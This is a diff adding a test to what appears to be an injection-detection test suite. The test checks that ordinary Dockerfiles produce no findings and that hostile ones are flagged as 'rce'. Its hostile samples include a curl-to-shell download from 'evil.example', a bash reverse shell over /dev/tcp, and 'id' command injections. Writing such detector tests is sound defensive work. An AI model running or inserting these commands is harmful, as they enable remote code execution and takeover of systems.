@@ -3395,3 +3395,14 @@ t.test("thirty-ninth round, after the fortieth part's measurement: SQL by kind â
   }
   for (const v of ['returning (select few) items', 'sort in order by (select the column)', "Let's begin insert of the new row", 'begin utl_file.fopen for the report', 'Fanny Oorr\'s blog', 'if (ok && this.name.startsWith(\'x\')) go()', '<button hx-post="/x" hx-vals=\'{"a":1}\'>Click</button>']) t.same(q(v), [], v)
 })
+
+t.test("thirty-ninth round, after the forty-third part's measurement: a Dockerfile is its build's own program", async (t) => {
+  const dockerfile = 'FROM ubuntu:16.04\nLABEL maintainer "Jessie Frazelle <jess@linux.com>"\n\nRUN apt-get update && apt-get install -y \\\n\tpcscd \\\n\tprocps \\\n\t--no-install-recommends && \\\n\tapt-get update && apt-get install -y \\\n\tyubikey-manager \\\n\t&& rm -rf /var/lib/apt/lists/*\n\nENV LC_ALL=C.UTF-8 LANG=C.UTF-8\n\nCOPY entrypoint.sh /usr/local/bin/\nENTRYPOINT [ "entrypoint.sh" ]\n'
+  t.same(json({ dockerfile }), [], 'apt-get chained in a RUN line')
+  t.same(json({ code: '# syntax=docker/dockerfile:1\nARG VERSION=1.2\nFROM --platform=$BUILDPLATFORM golang:1.22 AS build\nWORKDIR /src\nRUN go mod download && go build -o /out/app .\nFROM gcr.io/distroless/base\nCOPY --from=build /out/app /app\n' }), [], 'a multi-stage build')
+  // a reverse shell or a download run at once is read in a Dockerfile as in a shell script; so is an injection on its first line, and a
+  // value that only looks like one (no FROM first, a line no instruction opens)
+  for (const v of ['FROM alpine\nRUN apk add curl\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["sh"]', 'FROM alpine\nRUN apk add bash\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nCMD ["sh"]', 'x; id\nFROM alpine\nRUN a && b\nCMD c', 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id', 'FROM alpine\nRUN a\nid; whoami\nCMD b']) {
+    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
+})
